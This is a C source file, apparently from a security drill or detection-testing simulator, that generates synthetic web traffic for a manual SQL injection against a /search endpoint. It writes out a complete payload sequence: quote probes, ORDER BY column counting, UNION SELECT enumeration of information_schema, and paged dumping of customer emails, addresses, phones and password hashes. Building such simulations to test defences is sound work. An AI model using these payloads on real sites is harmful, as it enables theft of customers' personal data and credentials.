/* SPDX-License-Identifier: Apache-2.0 */
/* SQL injection by a person with a browser: looks around, finds the parameter that answers a quote
 * with an error, counts columns, lists tables, reads the customers out in pages of a large answer.
 */
#include "drill/attacks.h"

#include <stdio.h>

enum { COLUMNS = 7, PAGES = 24, THINK_S = 11 };

static const char *const trials[] = { "oak%27",
                                      "oak%27%27",
                                      "oak%27--+-",
                                      "oak%27+and+1%3D1--+-",
                                      "oak%27+and+1%3D2--+-",
                                      "oak%27)+or+(1%3D1--+-" };

/* What the value of q is at this step; the answer it gets in `r`. False: done. */
static bool next_value(stk_drill_actor *a, char *value, size_t room, stk_drill_request *r)
{
    uint32_t n = a->phase++;
    r->status = 200;
    r->bytes = 12400;
    if (n < STK_COUNT(trials)) {
        (void)snprintf(value, room, "%s", trials[n]);
        if (n == 0 || n == 5) {
            r->status = 500;
            r->bytes = 1310;
        }
        return true;
    }
    n -= STK_COUNT(trials);
    if (n <= COLUMNS) {
        (void)snprintf(value, room, "oak%%27+order+by+%u--+-", n + 1);
        r->status = n == COLUMNS ? 500 : 200;
        return true;
    }
    n -= COLUMNS + 1;
    static const char *const sources[] = {
        "null,null,null,null,null,null,null", "1,version(),3,4,5,6,7",
        "1,table_name,3,4,5,6,7+from+information_schema.tables",
        "1,column_name,3,4,5,6,7+from+information_schema.columns+where+table_name%3D%27customers%27"
    };
    if (n < STK_COUNT(sources)) {
        (void)snprintf(value, room, "zzz%%27+union+select+%s--+-", sources[n]);
        r->bytes = 6100 + 5200 * (int64_t)n;
        return true;
    }
    n -= STK_COUNT(sources);
    (void)snprintf(value, room,
                   "zzz%%27+union+select+id,email,street,city,phone,pw_hash,7+from+customers+limit+"
                   "500+offset+%u--+-",
                   n * 500);
    r->bytes = 118000 + (int64_t)stk_rng_below(&a->rng, 9000);
    return n < a->left;
}

static stk_time inject(stk_drill *d, stk_drill_actor *a)
{
    char value[256], target[300];
    stk_drill_request r = { .target = target, .referer = a->referer };
    if (!next_value(a, value, sizeof value, &r))
        return STK_TIME_NONE;
    (void)snprintf(target, sizeof target, "/search?q=%s", value);
    stk_drill_ask(d, a, &r);
    return d->now + 2 * STK_SECOND + stk_rng_wait(&a->rng, THINK_S * INT64_C(1) * STK_SECOND);
}

static stk_time look_first(stk_drill *d, stk_drill_actor *a)
{
    if (a->done++ < 4) {
        stk_drill_view_product(d, a, stk_drill_popular(d, &a->rng));
        a->assets = 0;
        return d->now + stk_rng_wait(&a->rng, 15 * STK_SECOND);
    }
    (void)snprintf(a->referer, sizeof a->referer, "/search?q=oak");
    a->step = inject;
    return inject(d, a);
}

void stk_drill_start_sqli_dump(stk_drill *d, stk_rng *rng, int32_t scenario)
{
    stk_drill_actor *a = stk_drill_attacker(d, stk_drill_when(d, rng, STK_HOUR), look_first,
                                            scenario);
    if (!a)
        return;
    a->left = 8 + stk_rng_below(rng, PAGES);
    stk_drill_name_target(d, scenario, "endpoint", "/search");
}
